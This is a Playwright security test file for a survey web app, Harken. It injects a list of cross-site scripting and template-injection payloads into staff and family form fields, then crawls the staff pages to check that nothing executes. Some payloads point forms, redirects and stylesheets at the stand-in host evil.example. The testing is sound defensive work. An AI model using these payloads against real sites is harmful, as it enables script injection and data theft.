// Whoever can type into Harken may type a script. Every field of every staff form gets some, and families' answers
// too; then every page is opened as staff would, and nothing may run and no content policy may be touched.
import { expect, openPhone, runHarken, sampleInitiative, sampleSurvey, signIn, startHarken, test, createAccount } from './support.js';

const root = `/i/${sampleInitiative}/`;

// Each shouts if it runs: by a dialog, or by a mark on the window.
const payloads = [
  '<script>window.__ran=1;alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<img src=x onerror="window.__ran=1">',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<svg onload=alert(1)>',
  '<svg/onload=window.__ran=1//',
  '"onfocus=alert(1) autofocus x="',
  "' autofocus onfocus=alert(1) x='",
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>parent.__ran=1</script>">',
  '<details open ontoggle=alert(1)>',
  '<style>@import "//evil.example/x.css"</style>',
  '<base href="//evil.example/">',
  '<form action="//evil.example/"><input name=x>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<math><mtext></p><img src=x onerror=alert(1)>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<!--hk--><script>alert(1)</script>',
  '\u2028alert(1)\u2029<script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
];
let next = 0;
const payload = () => payloads[next++ % payloads.length];

// What would take away what the others look at.
const destructive = /(remove|close|erase|sign-out|language|password|two-step|sign-ins|codes\/?$)/;

/** Watches a page for anything that ran or wanted to. */
async function watch(page) {
  const heard = [];
  page.on('dialog', async (dialog) => {
    heard.push(`${page.url()}: a dialog, ${dialog.message()}`);
    await dialog.dismiss();
  });
  page.on('pageerror', (error) => heard.push(`${page.url()}: ${error}`));
  page.on('console', (message) => {
    if (message.type() === 'error') heard.push(`${page.url()}: ${message.text()}`);
  });
  page.on('request', (request) => {
    if (new URL(request.url()).hostname === 'evil.example') heard.push(`${page.url()}: asked ${request.url()}`);
  });
  return heard;
}

/** Addresses inside the initiative, breadth first, at most so many of a kind. */
async function crawl(page, mostOfAKind, visit) {
  const seen = new Set([`${root}surveys`]);
  const kinds = new Map();
  for (const path of seen) {
    const response = await page.goto(path);
    expect(response.status(), path).toBeLessThan(500);
    await visit(path);
    const links = await page.locator('a[href]').evaluateAll((all) => all.map((link) => new URL(link.href)).map((url) => url.pathname + url.search));
    for (const link of links) {
      if (!link.startsWith(root) || /\.\w+$/.test(link.split('?')[0])) continue;
      const kind = link.split('?')[0].slice(root.length).replace(/[0-9a-f]{32}/g, '*');
      const count = kinds.get(kind) ?? 0;
      if (count >= mostOfAKind || seen.has(link)) continue;
      kinds.set(kind, count + 1);
      seen.add(link);
    }
  }
  return seen;
}

/** Every form of a page that posts, as its fields stand. */
function formsOf(page) {
  return page.locator('form[method=post]').evaluateAll((forms) =>
    forms.map((form) => ({
      action: new URL(form.action).pathname + new URL(form.action).search,
      multipart: form.enctype === 'multipart/form-data',
      fields: [...form.elements]
        .filter((field) => field.name && !field.disabled && !(['radio', 'checkbox'].includes(field.type) && !field.checked))
        .map((field) => ({ name: field.name, value: field.value, typed: field.matches('input[type=text], input:not([type]), textarea, input[type=search]') })),
    })),
  );
}

test('nothing that is typed anywhere runs in a staff page', { tag: ['@scripts', '@once'] }, async ({ browser }) => {
  test.setTimeout(300_000);
  const harken = await startHarken({ sample: true });
  try {
    const organizer = await createAccount(harken.data, { initiative: sampleInitiative });
    const page = await browser.newPage({ baseURL: harken.url });
    const heard = await watch(page);
    await signIn(page, organizer);

    // Families' answers first: as many as leave under the name of their language.
    const phone = await openPhone(browser, harken);
    for (let family = 0; family < 6; family += 1) {
      await phone.goto(`/s/${sampleSurvey}?lang=en`);
      const [form] = (await formsOf(phone)).filter(({ action }) => action.startsWith('/s/'));
      const texts = await phone.locator('form textarea, form input[type=text]').evaluateAll((all) => all.map(({ name }) => name));
      const sent = Object.fromEntries(form.fields.map(({ name, value }) => [name, value]));
      for (const name of texts) sent[name] = payload();
      const answered = await phone.request.post(form.action, { form: sent });
      expect(answered.status()).toBeLessThan(500);
    }
    await phone.close();
    await runHarken(harken.data, ['mix', sampleSurvey, '--close']);

    const origin = { origin: harken.url };
    const done = new Set();
    await crawl(page, 2, async () => {
      for (const form of await formsOf(page)) {
        if (form.multipart || destructive.test(form.action)) continue;
        const kind = form.action.replace(/[0-9a-f]{32}/g, '*') + form.fields.map(({ name }) => name).join();
        if (done.has(kind)) continue;
        done.add(kind);
        for (let round = 0; round < 3; round += 1) {
          const sent = Object.fromEntries(form.fields.map(({ name, value, typed }) => [name, typed ? payload() : value]));
          const response = await page.request.post(form.action, { form: sent, headers: origin, maxRedirects: 0 });
          expect(response.status(), `${form.action} ${JSON.stringify(sent)}`).toBeLessThan(500);
        }
      }
    });
    expect(done.size, 'kinds of forms filled').toBeGreaterThan(8);

    const seen = await crawl(page, 6, async (path) => {
      expect(await page.evaluate(() => window.__ran), path).toBeUndefined();
      // What was meant as an element is text.
      expect(await page.locator('img[src=x], svg[onload], details[ontoggle], base, iframe[srcdoc]').count(), path).toBe(0);
    });
    expect(seen.size).toBeGreaterThan(25);
    expect(heard).toEqual([]);

    // A script that does run is heard.
    await page.evaluate(() => setTimeout(() => alert('heard')));
    await expect.poll(() => heard.length).toBe(1);
    await page.close();
  } finally {
    await harken.stop();
  }
});
